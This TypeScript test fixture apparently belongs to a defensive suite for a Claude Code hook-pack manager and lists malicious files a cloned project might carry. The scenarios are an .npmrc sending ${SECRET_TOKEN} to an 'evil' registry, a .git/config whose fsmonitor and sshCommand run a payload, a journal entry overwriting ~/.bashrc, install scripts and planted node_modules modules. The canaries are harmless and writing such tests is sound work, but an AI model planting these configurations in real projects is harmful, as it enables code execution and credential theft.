import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { put } from '../../scenarios/cli.ts'
import { GUARD } from '../clone.ts'
import { type Attack, VARIABLE } from './attack.ts'

/** Files of git, npm, the client and of ours that a project may bring. */
export const others: readonly Attack[] = [
  {
    name: '.npmrc names another registry and a secret',
    prepare: (at, evil) =>
      put(
        path.join(at.project, '.npmrc'),
        `registry=${evil}\${SECRET_TOKEN}/\n@mine:registry=${evil}\nalways-auth=true\ncafile=/dev/zero\n`,
      ),
  },
  {
    name: '.git/config runs programs',
    prepare: (at) =>
      put(
        path.join(at.project, '.git/config'),
        `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${at.payload}\n\tsshCommand = ${at.payload}\n[alias]\n\tinit = !${at.payload}\n`,
      ),
  },
  {
    name: 'a journal names a file of the user',
    prepare: (at) =>
      put(path.join(at.folder, 'journal.json'), {
        v: 1,
        writes: [{ path: `${at.home}/.bashrc`, before: '# mine\n', after: 'evil\n' }],
      }),
  },
  {
    name: 'a mutex is held by nobody',
    prepare: (at) => put(path.join(at.folder, '.mutex'), { pid: 999_999, host: 'elsewhere' }),
  },
  {
    name: 'the table names a module outside',
    prepare: (at) => {
      writeFileSync(path.join(at.outside, 'module.cjs'), '')
      put(path.join(at.folder, 'table.json'), {
        version: 1,
        hooks: { [`${GUARD}/guard`]: { event: 'PreToolUse', module: '../../../outside/module.cjs' } },
      })
    },
  },
  {
    name: 'the runtime is another program',
    runs: 'program',
    prepare: (at) =>
      put(path.join(at.folder, 'runtime.cjs'), `require('fs').writeFileSync('${at.outside}/ran','')\n`),
  },
  {
    name: 'a package.json with scripts',
    prepare: (at) =>
      put(path.join(at.project, 'package.json'), {
        name: 'x',
        version: '1.0.0',
        scripts: Object.fromEntries(
          ['preinstall', 'install', 'prepare', 'postinstall', 'prepublish'].map((name) => [name, at.payload]),
        ),
      }),
  },
  {
    name: 'node_modules has a hookpack of its own',
    prepare: (at) => {
      put(
        path.join(at.project, 'node_modules/npm/index.js'),
        `require('fs').writeFileSync('${at.outside}/ran','')`,
      )
      put(
        path.join(at.project, 'node_modules/make-fetch-happen/index.js'),
        `require('fs').writeFileSync('${at.outside}/ran','')`,
      )
    },
  },
  {
    name: 'the local folder came with the clone, with its own wishes',
    prepare: (at, evil) => {
      mkdirSync(path.join(at.project, '.claude/hookpack.local'), { recursive: true })
      put(path.join(at.project, '.claude/hookpack.local/hookpack.json'), {
        packs: { x: '^1' },
        registries: { evil: { url: evil, headers: { a: VARIABLE } } },
      })
    },
  },
  {
    name: 'approvals lie in the project',
    prepare: (at) => put(path.join(at.project, '.claude/approvals.json'), { v: 1, approvals: [] }),
  },
]
